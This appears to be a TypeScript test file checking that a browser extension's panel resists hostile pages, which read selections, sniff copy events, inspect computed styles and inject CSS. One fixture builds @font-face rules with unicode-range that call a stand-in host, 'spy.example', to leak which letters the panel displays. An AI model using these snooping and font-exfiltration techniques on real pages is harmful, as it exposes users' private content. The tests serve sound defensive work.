import { expect } from 'vitest';
import type { Settings } from '../../../../src/core/settings.ts';
import { changeSettings } from '../../harness/extension-api.ts';
import { readPanel, waitForPanel } from '../../harness/panel-view.ts';
import { rest } from '../../harness/until.ts';
import { type HostilePage, html, type Stage, story, unharmed } from '../hostile-page.ts';

/** Words that the panel says and the page does not. */
async function secretsOf({ world, page }: Stage): Promise<string[]> {
  const view = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
  const own = await page.evaluate(() => document.body.textContent);
  return [...new Set(view.text.split('\n').map((line) => line.trim()))]
    .filter((line) => line.length > 8 && line.length < 200 && !own.includes(line))
    .slice(0, 40);
}

/** Letters whose fonts a page may ask for one by one, to learn which of them are shown. */
const families = [
  'Iowan Old Style',
  'Charter',
  'Sitka Text',
  'Source Serif 4',
  'Noto Serif',
  'Cambria',
  'Georgia',
  'serif',
  'sans-serif',
  'system-ui',
  '-apple-system',
  'Segoe UI',
  'Noto Sans',
  'Helvetica Neue',
  'Arial',
  'monospace',
  'ui-monospace',
  'ui-serif',
  'ui-sans-serif',
];
const spyingFonts = [...'Qzxj§…→']
  .flatMap((letter) =>
    families.map(
      (family) =>
        `@font-face{font-family:"${family}";src:url("https://spy.example/${encodeURIComponent(family)}/${letter.codePointAt(0)}");unicode-range:U+${letter.codePointAt(0)?.toString(16)}}`,
    ),
  )
  .concat(
    families.map(
      (family) =>
        `@font-face{font-family:"${family}";src:url("https://spy.example/${encodeURIComponent(family)}")}`,
    ),
  );

/** Pages that would like to know what stands in the panel, or what the reader has set. */
export const readingUs: HostilePage[] = [
  unharmed('selects everything and reads all that it can', '', {
    body: () => html({}),
    async act(stage) {
      const secrets = await secretsOf(stage);
      const found = await stage.page.evaluate((lines) => {
        document.execCommand('selectAll');
        const selected = String(getSelection());
        getSelection()?.selectAllChildren(document.documentElement);
        const everything = [
          selected,
          String(getSelection()),
          document.body.innerText,
          document.documentElement.outerHTML,
          document.documentElement.textContent,
          (document.querySelector(':popover-open') as HTMLElement | null)?.innerText ?? '',
          new XMLSerializer().serializeToString(document),
          String(getSelection()?.getRangeAt(0)),
        ];
        return everything.flatMap((text, way) =>
          lines.filter((line) => text.includes(line)).map((line) => `way ${way}: ${line}`),
        );
      }, secrets);
      expect(secrets.length).toBeGreaterThan(3);
      expect(found).toEqual([]);
    },
  }),
  unharmed(
    'listens to what is copied',
    `addEventListener('copy', (event) => { window.copied = String(getSelection()) + (event.clipboardData?.getData('text/plain') ?? ''); });`,
    {
      async act(stage) {
        const secrets = await secretsOf(stage);
        const view = await readPanel(stage.world, stage.page);
        const { x, y, width } = view?.box ?? { x: 0, y: 0, width: 0 };
        // The reader selects some lines of the panel with the mouse and copies them.
        await stage.page.mouse.move(x + 40, y + 90);
        await stage.page.mouse.down();
        await stage.page.mouse.move(x + width - 40, y + 500, { steps: 4 });
        await stage.page.mouse.up();
        await stage.page.keyboard.down('Control');
        await stage.page.keyboard.press('c');
        await stage.page.keyboard.up('Control');
        await rest(150);
        const heard = String(await stage.page.evaluate('String(window.copied) + String(getSelection())'));
        expect(secrets.filter((line) => heard.includes(line))).toEqual([]);
      },
    },
  ),
  {
    what: 'lends fonts that tell which letters are shown',
    outcomes: ['recognized'],
    panel: 'there',
    body: () => html({ head: `<style>${spyingFonts.join('\n')} main{font-family:fantasy}</style>` }),
    async act({ world, page }) {
      await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      await rest(500);
      const asked = world.server.askedOf('spy.example').map(({ url }) => decodeURIComponent(url.pathname));
      expect([...new Set(asked)], 'the page is asked for fonts of the panel').toEqual([]);
    },
  },
  {
    what: 'looks at the style of our element for settings',
    outcomes: ['recognized'],
    panel: 'there',
    body: () => html({}),
    async act({ world, page }) {
      const look = () =>
        page.evaluate(() => {
          const host = document.querySelector(':popover-open');
          if (!host) return null;
          const style = getComputedStyle(host);
          const names = [...style, '--panel-width', '--text', '--paper', '--ink', '--inset', '--gap-1'];
          return {
            style: names.map((name) => `${name}: ${style.getPropertyValue(name)}`),
            box: host.getBoundingClientRect().toJSON() as object,
            attributes: host.getAttributeNames().map((name) => `${name}=${host.getAttribute(name)}`),
            scroll: [host.scrollWidth, host.clientHeight, (host as HTMLElement).offsetWidth],
          };
        });
      const first = await look();
      const changes: Partial<Settings>[] = [
        { theme: 'dark' },
        { textSize: 150 },
        { hiddenSites: ['bbc.com'] },
        { consents: { wayback: 'never' } },
      ];
      for (const change of changes) {
        await changeSettings(world, change);
        await rest(350);
        expect(await look(), JSON.stringify(change)).toEqual(first);
      }
      await changeSettings(world, { theme: 'system', textSize: 100, hiddenSites: [], consents: {} });
    },
  },
  unharmed('sets the variables of our style sheets', '', {
    body: () =>
      html({
        script: `try { CSS.registerProperty({ name: '--panel-width', syntax: '<length>', inherits: true, initialValue: '1px' }); } catch {}`,
        head: `<style>*,html,[popover]{--panel-width:1px!important;--text:0.01!important;--paper:transparent;--gap-4:900px;--inset:0}</style>`,
        body: story,
      }),
  }),
];
